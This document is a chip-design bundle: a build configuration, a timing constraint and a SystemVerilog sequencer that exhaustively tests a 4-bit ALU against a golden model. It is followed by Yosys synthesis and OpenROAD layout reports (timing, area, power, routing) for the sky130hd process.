<file path="config.mk">
export PLATFORM = sky130hd
export DESIGN_NAME = alu_vector_sequencer
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/alu_vector_sequencer.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export CAP_MARGIN = 25
export CORE_ASPECT_RATIO = 1.75
export CORE_MARGIN = 5
export CORE_UTILIZATION = 52
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_ROUTABILITY_DRIVEN = 0
export PLACE_DENSITY = 0.83
export SLEW_MARGIN = 20
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
</file>
<file path="constraint.sdc">
create_clock -name clk -period 3.8 [get_ports clk]
set_input_delay 0.95 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.95 -clock clk [all_outputs]
set_load 0.03 [all_outputs]
</file>
<file path="src/rtl/alu_vector_sequencer.sv">
// Exhaustive stimulus/check sequencer for a 4-bit, 4-op combinational ALU.
// Walks all 1024 {op,A,B} vectors and holds each one for DWELL cycles.
// On the last cycle of each hold it compares the ALU outputs with a built-in
// golden model. It counts vectors that mismatch and latches the first one.
module alu_vector_sequencer #(
  parameter int DWELL = 1
) (
  input  logic        clk,
  input  logic        rst_n,
  input  logic        start,
  output logic [3:0]  dut_A,
  output logic [3:0]  dut_B,
  output logic [1:0]  dut_op,
  input  logic [3:0]  dut_Y,
  input  logic        dut_carry,
  input  logic        dut_zero,
  output logic        busy,
  output logic        done,
  output logic        vec_strobe,
  output logic [10:0] mismatch_count,
  output logic        first_fail_valid,
  output logic [9:0]  first_fail_vec,
  output logic [2:0]  first_fail_mask
);

  // Keep the dwell counter at least one bit wide so DWELL=1 still elaborates.
  localparam int DW = (DWELL > 1) ? $clog2(DWELL) : 1;
  localparam logic [DW-1:0] DWELL_LAST = DW'(DWELL - 1);

  typedef enum logic [1:0] {S_IDLE, S_RUN, S_DONE} state_t;

  state_t        state_q, state_d;
  logic [9:0]    vec_q, vec_d;
  logic [DW-1:0] dwell_q, dwell_d;
  logic [10:0]   cnt_q, cnt_d;
  logic          ffv_q, ffv_d;
  logic [9:0]    ffvec_q, ffvec_d;
  logic [2:0]    ffmask_q, ffmask_d;

  logic [3:0] op_a, op_b;
  logic [1:0] op_sel;
  logic [4:0] sum, diff;
  logic [3:0] gold_y;
  logic       gold_c, gold_z;
  logic [2:0] bad;
  logic       sample;

  assign op_sel = vec_q[9:8];
  assign op_a   = vec_q[7:4];
  assign op_b   = vec_q[3:0];
  assign sum    = {1'b0, op_a} + {1'b0, op_b};
  // The top bit of the 5-bit difference is the borrow (set when A < B).
  assign diff   = {1'b0, op_a} - {1'b0, op_b};

  // Golden ALU result for the vector currently on the bus.
  always_comb begin
    gold_y = 4'd0;
    gold_c = 1'b0;
    case (op_sel)
      2'b00:   begin gold_y = sum[3:0];  gold_c = sum[4];  end
      2'b01:   begin gold_y = diff[3:0]; gold_c = diff[4]; end
      2'b10:   gold_y = op_a & op_b;
      default: gold_y = op_a | op_b;
    endcase
    gold_z = (gold_y == 4'd0);
  end

  // Case-inequality makes X/Z on the ALU outputs count as a mismatch.
  assign bad    = {dut_Y !== gold_y, dut_carry !== gold_c, dut_zero !== gold_z};
  assign sample = (state_q == S_RUN) && (dwell_q == DWELL_LAST);

  // Sweep control: next-state logic plus result accumulation.
  always_comb begin
    state_d  = state_q;
    vec_d    = vec_q;
    dwell_d  = dwell_q;
    cnt_d    = cnt_q;
    ffv_d    = ffv_q;
    ffvec_d  = ffvec_q;
    ffmask_d = ffmask_q;
    case (state_q)
      S_RUN: begin
        if (sample) begin
          if (bad != 3'b000) begin
            cnt_d = cnt_q + 11'd1;
            if (!ffv_q) begin
              ffv_d    = 1'b1;
              ffvec_d  = vec_q;
              ffmask_d = bad;
            end
          end
          dwell_d = '0;
          if (vec_q == 10'd1023) state_d = S_DONE;
          else                   vec_d   = vec_q + 10'd1;
        end else begin
          dwell_d = dwell_q + DW'(1);
        end
      end
      default: begin
        // IDLE and DONE both start a new sweep from scratch; RUN ignores start.
        if (start) begin
          state_d  = S_RUN;
          vec_d    = '0;
          dwell_d  = '0;
          cnt_d    = '0;
          ffv_d    = 1'b0;
          ffvec_d  = '0;
          ffmask_d = '0;
        end
      end
    endcase
  end

  // State and result registers; reset aborts any sweep in progress.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state_q  <= S_IDLE;
      vec_q    <= '0;
      dwell_q  <= '0;
      cnt_q    <= '0;
      ffv_q    <= 1'b0;
      ffvec_q  <= '0;
      ffmask_q <= '0;
    end else begin
      state_q  <= state_d;
      vec_q    <= vec_d;
      dwell_q  <= dwell_d;
      cnt_q    <= cnt_d;
      ffv_q    <= ffv_d;
      ffvec_q  <= ffvec_d;
      ffmask_q <= ffmask_d;
    end
  end

  assign dut_op           = vec_q[9:8];
  assign dut_A            = vec_q[7:4];
  assign dut_B            = vec_q[3:0];
  assign busy             = (state_q == S_RUN);
  assign done             = (state_q == S_DONE);
  assign vec_strobe       = sample;
  assign mismatch_count   = cnt_q;
  assign first_fail_valid = ffv_q;
  assign first_fail_vec   = ffvec_q;
  assign first_fail_mask  = ffmask_q;

endmodule

</file>
# Word-level counts from Yosys, hierarchy flattened
# Index checks and enable logic that the tools add are counted.
# classes
n_reduce_logical,9
addsub,5
n_bitwise,3
n_eq_ne,13
mux,29
# ops
op,count
$mux W10,8
$mux W11,4
$mux W3,5
$pmux W4 S3,1
$add A11 B1 Y11 const B,1
$add A10 B1 Y10 const B,1
$eq A10 B10 Y1 const B,1
$reduce_and A3 Y1,3
$mux W2,4
$mux W1,6
$ne A2 B1 Y1 const B,3
$add A4 B4 Y5,1
$sub A4 B4 Y5,1
$and A4 B4 Y4,1
$eq A2 B1 Y1 const B,2
$eq A2 B2 Y1 const B,2
$logic_not A4 Y1,1
$ne A2 B2 Y1 const B,2
$nex A4 B4 Y1,1
$or A4 B4 Y4,1
$reduce_and A4 Y1,1
$reduce_bool A3 Y1,1
$logic_not A2 Y1,1
$nex A1 B1 Y1,2
other kinds (5),5
# word_totals
elab_cells,66
ff_bits,38
out_inout_bits,38

# Longest topological paths before layout
# logic_depth
word_depth,8
mapped_depth,12
ltp_nobuf,10

# Worst setup path before layout
# Ideal clock, no wire load.
# synth_timing
path_type,reg-to-reg
startpoint,reg vec_q[4]
endpoint,"reg cnt_q[10], in the netlist mismatch_count[10]"
path_stages_with_launch,12
period_less_slack_ns,3.332
n_path_buf,1
setup_slack_ns,0.468
arrival_ns,3.211
required_time_ns,3.678
path_cell_list,dfrtp_1 > inv_1 > ha_1 > fa_1 > xnor2_1 > mux4_2 > o2111ai_1 > or4_4 > and4_4 > buf_6 > a221o_1 > a32o_1
# synth_via
elab_chain_cells,7
# synth_rtl
element,line_no,rtl
"start, declared",33,"logic [9:0] vec_q, vec_d;"
"start signal, assigned",126,vec_q <= vec_d;
$sub A4 B4 Y5 (tied with other cells),53,"assign diff = {1'b0, op_a} - {1'b0, op_b};"
$pmux W4 S3,59,case (op_sel)
$logic_not A4 Y1,65,gold_z = (gold_y == 4'd0);
$nex A1 B1 Y1,69,"assign bad = {dut_Y !== gold_y, dut_carry !== gold_c, dut_zero !== gold_z};"
$reduce_bool A3 Y1 (*),84,if (bad != 3'b000) begin
$ne A2 B1 Y1 (no source line) (*),--,
$reduce_and A3 Y1 (no source line) (*),--,
"end signal, assigned",128,cnt_q <= cnt_d;
"end, declared",35,"logic [10:0] cnt_q, cnt_d;"
# Mark *: on every way between the ends. The rest lies on a longest branch, timed or not.
# A chain may end at the register's enable or synchronous reset.

# Worst setup path after layout
# layout_timing
startpoint,reg vec_q[4]
endpoint,"reg cnt_q[5], in the netlist mismatch_count[5]"
# Same word-level chain as after synthesis.

==> results by group <==
Detailed routing
  – DRT Pass-1 Iters: 5
  – Wire per inst: 19.5 um
  – Drt via density: 6.38
  – DRT Wirelength: 6.69 mm
  – Vias: 2188
  – Residual DRC: 0
  – Drt first-iter violations: 108
  – Antenna Violating Nets Remaining: 0

GRT
  – Gr ovfl total: 0
  – Global-route wire length before repair: 11.0 mm
  – GRT Total Usage: 24.0%
  – Initial antenna violation count: 0
  – Via count of the first global-routing pass: 2239
  – Pin count of the biggest net entering global routing: 39

Worst hold path
  – Hold Path End: first_fail_mask[2]
  – Hold Path Class: flip-flop to flip-flop
  – Hold path cells: 1
  – HP Start: first_fail_mask[2]

Die
  – Die area: 6190 sq um
  – Initial Util: 52.5%
  – Chip Height: 100 um
  – IO Count: 47
  – Total core area: 4620 sq um
  – Width of the chip: 61.6 um
  – FP Rows: 33

Clock network
  – Htree depth: 2
  – Post-cts sizing count: 0
  – Clk_lat worst skew: 300 ps
  – TritonCTS Sinks: 38
  – Post-CTS setup buffer count: 0
  – CTS tree: done
  – Root Driver: clkbuf_8
  – Clk slew on worst S/H paths: 80 ps
  – Max Root-Sink Buffers: 2
  – Cts hold-fix bufs: 0
  – CTS Buf Count: 5

Layout
  – Layout area overhead: 23.8%
  – Layout cells sized above 1: 8.93%
  – Final std cells w/o fill: 343
  – Commonest cells after routing, fill and taps aside: clkdlybuf4s50_1 (45), dfrtp_1 (38), inv_1 (17), nor2_1 (17), a32o_1 (15)
  – Nets: 315
  – Commonest non-fill, non-tap cell in the layout: clkdlybuf4s50_1
  – ANT cells: 0

Setup path
  – Worst Path Arrival: 3520 ps
  – Reg2reg start: vec_q[4]
  – CP max stage cell: mux4_2
  – Crit-path max FO: 17
  – Worst Path Required: 3980 ps
  – Worst setup SP type: flip-flop
  – CP peak stage delay: 520 ps
  – Reg2Reg Setup Slack: 460 ps
  – Crit Path Category: flip-flop to flip-flop
  – Crit Reg-Reg Endpoint: mismatch_count[5]
  – Critical Path, Cell by Cell: inv_1, ha_1, fa_1, mux4_2, xnor2_1, a2111oi_2, and4_4, nand2_2, a221o_1
  – Crit end category: flip-flop
  – Delay-heaviest family, CP: compound AO/OA/AOI/OAI gates
  – R2R cell count: 9
  – CP Buf/Inv Count: 1

Power
  – Power Density: 816 nW/um^2
  – Peak supply drop: 0.510 mV
  – Leak Pwr: 1.27 nW

Place
  – Place WS: 462 ps
  – Port Buffers: 46
  – Placed Cells: 335
  – Placed wire-length estimate: 5.05 mm

Timing
  – RSZ-0062 raised after global routing: false
  – Final worst-path cycle share: 87.9%
  – Max_slew headroom: 43.1%
  – Tightest Pin Transition: 853 ps
  – FMAX: 0.299 GHz
  – Post-layout min period: 3340 ps
  – Fin. Hold Viols: 0
  – Max-slew violation count: 0
  – Final TNS setup: 0 ps
  – Final setup margin: 459 ps
  – Final setup violation count: 0
  – Skew final: 8.85 ps

Job
  – Max-cap violations: 0

Synth
  – Synthesis Warnings: 0
  – Synthesized Nets: 270
  – Library cells used by synthesis: 51
  – FFs w/ async S/R, synth: 100%
  – Flops & latches, synth: 38
  – Avg Cell Area, Syn: 9.91 sq um
  – Seq/Total Area, Yosys: 39.2%
  – Synthesized cell area: 2430 sq um
  – Ys flop type: dfrtp_1
  – Gate Count Post-Synth: 245
  – Post-synth EDFFs: 0

Outcome
  – Status: finished, final reports clean
==> kinds of logic (layout without fill, tap and decap cells) <==
| kind of cell | after synthesis | in the layout | synth area share, % |
|---|---|---|---|
| AOI/OAI and AO/OA | 62 | 62 | 20.3 |
| xor gates and xnor gates | 13 | 13 | 4.69 |
| adders and majority gates | 16 | 16 | 8.87 |
| buffers and inverters | 30 | 76 | 5.77 |
| DFF | 38 | 38 | 39.2 |
| muxes | 4 | 4 | 2.68 |
| and+or+nand+nor | 82 | 82 | 18.6 |
==> power by group <==
group | switching (W) | internal [W]
combinational | 0.000806 | 0.000648
sequential | 0.000171 | 0.000534
clock | 0.000147 | 0.000146
==> worst reg2reg max path, stage by stage (launching register included) <==
cell and delay, ps:
dfrtp_1 460, inv_1 150, ha_1 250, fa_1 440, mux4_2 520, xnor2_1 160, a2111oi_2 330, and4_4 330
nand2_2 220, a221o_1 390
==> metrics by stage <==
stage / hold slack [ps] / total power [W] / utilization, % / cell area [sq um]
2_1_floorplan: 486 / 0.00167 / - / 2430
3_3_place_gp: 474 / 0.00212 / 62.9 / 2910
3_5_place_dp: 472 / 0.00216 / 62.9 / 2910
4_1_cts: 489 / 0.00246 / 65.0 / 3000
5_1_grt: 513 / 0.00261 / 65.0 / 3000
6_report: 489 / 0.00245 / 65.0 / 3000
==> routing by layer <==
metal / share of wire [%] / wire length (um) / vias to the layer above / GRT usage (%)
li1: - / - / 990 / -
met1: 34 / 2280 / 1075 / 27.3
met2: 56 / 3720 / 95 / 40.9
met3: 5.4 / 362 / 28 / 3.99
met4: 4.9 / 329 / 0 / 12.6
met5: 0 / 0 / - / 0
==> layout make-up <==
class / instances / area [sq um]
fillers: 387 / 1620
multi-input cells: 177 / 1340
flip-flops and latches: 38 / 951
repair buffers: 51 / 493
clock buffers: 6 / 82.6
well taps: 52 / 65.1
inverters: 17 / 63.8
clock inverters: 2 / 12.5
==> cell usage after synthesis, types with 2 or more instances <==
cell	n	share of area [%]
buf_4	3	0.93
mux2i_1	2	0.82
ha_1	14	7.2
o21a_1	2	0.62
a21oi_1	10	2.1
clkbuf_1	7	1.1
o221ai_1	4	1.4
mux4_2	2	1.9
and4_4	2	0.93
o31ai_1	2	0.62
dfrtp_1	38	39
fa_1	2	1.6
and3_1	6	1.5
buf_6	2	0.93
nand4_1	4	1.0
a32o_1	15	6.2
nor2_1	17	2.6
nand3_1	7	1.4
or3_1	3	0.77
and2_1	2	0.52
nand3b_1	2	0.62
nor2b_1	2	0.52
o21ai_0	7	1.4
a21o_1	2	0.62
inv_1	17	2.6
xnor2_1	11	4.0
xor2_1	2	0.72
nor3_1	4	0.82
or2_2	4	1.0
nand2b_1	5	1.3
o21ai_1	2	0.41
o2111ai_1	2	0.72
o2bb2ai_1	3	1.1
nor3b_1	4	1.2
a221o_1	5	2.1
nand2_1	14	2.2
==> state kept, by name, indices dropped and copies added (netlist names) <==
signal / flops
dwell_q: 1
first_fail_vec: 10
mismatch_count: 11
first_fail_mask: 3
state_q: 2
first_fail_valid: 1
vec_q: 10
==> how the worst max path moves through the flow <==
stage                   from                  to  slack [ps]  cells after the start
floorplan           vec_q[4]  mismatch_count[10]         470                     11
global placement    vec_q[0]   mismatch_count[5]         540                      9
detailed placement  vec_q[4]   mismatch_count[5]         460                      9
CTS                 vec_q[0]   mismatch_count[5]         460                      9
global route        vec_q[4]   mismatch_count[2]         260                      9
finish              vec_q[4]   mismatch_count[5]         460                      9
(Power assumes the default switching activity.)
